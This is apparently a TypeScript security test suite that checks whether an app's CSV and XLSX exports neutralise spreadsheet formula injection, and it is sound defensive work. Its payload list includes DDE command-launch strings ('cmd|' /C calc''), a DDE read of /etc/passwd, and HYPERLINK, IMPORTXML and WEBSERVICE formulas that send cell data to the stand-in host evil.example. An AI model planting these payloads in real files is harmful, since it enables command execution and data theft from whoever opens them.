import { spawnSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { readCsv } from '@leadloom/server/testing/read-csv';
import { readWorkbook } from '@leadloom/server/testing/read-workbook';
import { addRows } from '@leadloom/server/testing/table-rows';
import { makeTemporaryDirectory, removeDirectory } from '@leadloom/server/testing/temporary-directory';
import { startTestServer, type TestServer } from '@leadloom/server/testing/test-server';
import { unsafeCell } from '@leadloom/shared/domain/safe-cell';
import { companies } from '@leadloom/shared/tables/companies';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addPerson, type Person, tell } from './testing/security.fixture.ts';

const leads = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\v',
  '\f',
  '\r\n',
  '\t ',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u061c',
  '\u200b',
  '\u200e',
  '\u2028',
  '\u2060',
  '\u3000',
  '\ufeff',
  ' \u00ad',
  "'",
  "''",
  '"',
  '""',
  ',',
  ';',
  'x;',
  'x; ',
  'x;"',
  'x; ""\u00a0',
  "x;'",
  'x,',
  'x, "',
  'x\t',
  'x|',
  'x\n',
  'x\r\n"',
];
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '⁺1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@DDE("cmd";"/C calc";"x")',
  '=DDE("soffice";"/etc/passwd";"x")',
  '=HYPERLINK("http://evil.example/?x="&A1;"open")',
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=";A1:A9);"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=1+1\n=2+2',
  '"=1+1"',
  '=1+1","=2+2',
  '=1;=2',
  '+49 30 555010, =1+1',
  "+49 30 555010'!A0",
  "-1,5+cmd|' /C calc'!A0",
  "-1|' /C calc'!A0",
  '-',
  '=',
  '+',
  '@',
];
/** Cells that the rule leaves unchanged: none of them is a formula. */
const harmless = [
  '-12',
  '+3.5',
  '+49 30 555010',
  '+1 (555) 010-2030',
  'a=b',
  'maren@example.com',
  '12',
  'plain text',
  'a; -5',
  'x, +49 30 555010',
  'a;-1,5;b',
  'maren@example.com; lena@example.com',
];
const cells = [...leads.flatMap((lead) => payloads.map((payload) => `${lead}${payload}`)), ...harmless];

/**
 * Checked independently of the code that wrote the cell: the shown text may not start a formula and is not a plain number.
 */
function isDangerous(cell: string): boolean {
  if (/^[\t\r\0]/.test(cell)) return true;
  const shown = cell.replace(/^[\p{C}\p{Z}\s]+/u, '').normalize('NFKC');
  return /^[=@]/.test(shown) || (/^[+-]/.test(shown) && !/^[+-]\d[\d ().,;/+%-]*$/.test(shown));
}

/** By what spreadsheets of other locales, and other programs, separate the cells of a file. */
const OTHER_SEPARATORS = [';', '\t', '|'];

/** What a program takes for the begin of a cell: quotes around it are removed, doubled ones in it are text. */
function begin(cell: string): string {
  const trimmed = (text: string) => text.replace(/^[\p{C}\p{Z}\s]+/u, '');
  const shown = trimmed(cell);
  const quotes = shown.length - shown.replace(/^"+/, '').length;
  const rest = trimmed(shown.slice(quotes));
  // A quoted cell whose own text begins with a quote is no formula.
  if (quotes > 2 || (quotes === 1 && rest.startsWith('""'))) return '"';
  return trimmed(rest.replace(/^"/, '')).normalize('NFKC');
}

/**
 * Cells that start a formula for a program that separates by this character alone. It finds quotes in the middle of a cell,
 * so they protect neither separators nor line ends. A cell goes on over the commas of the file: in a locale of decimal commas
 * `-1,5+A1` is a formula.
 */
function dangerousBy(separator: string, csv: string): readonly string[] {
  return csv
    .replace(/^\uFEFF/, '')
    .split(/[\r\n]/)
    .flatMap((line) => line.split(separator))
    .map(begin)
    .filter((cell) => {
      if (!/^[+-]/.test(cell)) return /^[=@]/.test(cell);
      const [own = ''] = cell.split(/,(?!\d)/);
      return !/^[+-]\d[\d ().,/+%-]*"*$/.test(own);
    });
}

const OFFICE = 'soffice';

/** Formulas a spreadsheet finds in a file; null where there is no spreadsheet. */
async function formulasIn(csv: string, separator = ','): Promise<number | null> {
  if (spawnSync(OFFICE, ['--version']).status !== 0) return null;
  const directory = await makeTemporaryDirectory('office');
  try {
    await writeFile(join(directory, 'cells.csv'), csv);
    const profile = `-env:UserInstallation=file://${directory}/profile`;
    // Separator, double quote, UTF-8, from the first line.
    const reading = [
      '--headless',
      `--infilter=CSV:${separator.charCodeAt(0)},34,76,1`,
      '--convert-to',
      'fods',
      '--outdir',
      directory,
    ];
    const { status, stderr } = spawnSync(OFFICE, [profile, ...reading, join(directory, 'cells.csv')], { encoding: 'utf8' });
    if (status !== 0) throw new Error(`the spreadsheet could not read the file: ${stderr}`);
    return (await readFile(join(directory, 'cells.fods'), 'utf8')).split('table:formula=').length - 1;
  } finally {
    await removeDirectory(directory);
  }
}

describe('cells of an exported file', { timeout: 120_000 }, () => {
  let server: TestServer;
  let person: Person;
  const counts = {
    cells: 0,
    'dangerous before': 0,
    'dangerous in the file': 0,
    'not given back as they were': 0,
    'dangerous by another separator': 0,
    'formulas in a spreadsheet': 0,
  };
  beforeAll(async () => {
    server = await startTestServer({ environment: { TRIAL_EXPORT_LIMIT: '100000' } });
    person = await addPerson(server);
    const rows = cells.map((cell, index) => ({
      name: cell,
      description: `${cell} `,
      verticals: [cell, 'other'],
      employee_count: index,
    }));
    await addRows(server.database, companies, rows);
  });
  afterAll(async () => {
    tell('CSV cells (S19)', counts);
    await server.close();
  });

  const query = 'sort=employee_count&columns=name&columns=description&columns=verticals&columns=employee_count';
  const exported = async () => {
    const answer = await server.app.inject({ url: `/api/v1/table/companies/export?${query}`, headers: person.bearer });
    expect(answer.statusCode).toBe(200);
    return answer.payload;
  };

  it('the cells under test are many, and most of them are dangerous', () => {
    counts['dangerous before'] = cells.filter(isDangerous).length;
    expect(counts['dangerous before']).toBeGreaterThan(500);
    expect(harmless.filter(isDangerous)).toEqual([]);
  });

  it('exported cells contain no formula, and have their old value once the apostrophes are removed', async () => {
    const { records } = readCsv(await exported());
    expect(records).toHaveLength(cells.length);
    for (const [index, [name = '', description = '', verticals = '', count]] of records.entries()) {
      expect(count).toBe(String(index));
      const written = [name, description, verticals];
      const meant = [cells[index], `${cells[index]} `, `${cells[index]}, other`];
      counts.cells += written.length;
      counts['dangerous in the file'] += written.filter(isDangerous).length;
      counts['not given back as they were'] += written.filter((cell, at) => unsafeCell(cell) !== meant[at]).length;
    }
    expect(counts).toMatchObject({ 'dangerous in the file': 0, 'not given back as they were': 0 });
    const last = records.slice(-harmless.length).map(([name]) => name);
    expect(last).toEqual(harmless);
  });

  it('a workbook has the same cells as texts, unchanged, and no formula', async () => {
    const address = `/api/v1/table/companies/export?${query}&format=xlsx`;
    const [sheet] = readWorkbook((await server.app.inject({ url: address, headers: person.bearer })).rawPayload);
    const [, ...rows] = sheet?.rows ?? [];
    expect(rows).toEqual(cells.map((cell, index) => [cell, `${cell} `, `${cell}, other`, index]));
    expect(sheet?.formulas).toBe(0);
  });

  it.each(OTHER_SEPARATORS)('a program that separates by %j finds no formula in an exported file', async (separator) => {
    const unescaped = cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\n');
    expect(dangerousBy(separator, unescaped).length).toBeGreaterThan(100);
    const found = dangerousBy(separator, await exported());
    counts['dangerous by another separator'] += found.length;
    expect(found).toEqual([]);
  });

  it('an installed spreadsheet reads no exported cell as a formula', async () => {
    const unescaped = cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\n');
    const file = await exported();
    for (const separator of [',', ...OTHER_SEPARATORS]) {
      const [before, after] = [await formulasIn(unescaped, separator), await formulasIn(file, separator)];
      counts['formulas in a spreadsheet'] += after ?? 0;
      // Without a spreadsheet, only the tests above count. With one, it must have read every cell.
      expect(after ?? 0).toBe(0);
      expect(before ?? cells.length).toBeGreaterThan(0);
    }
  });
});
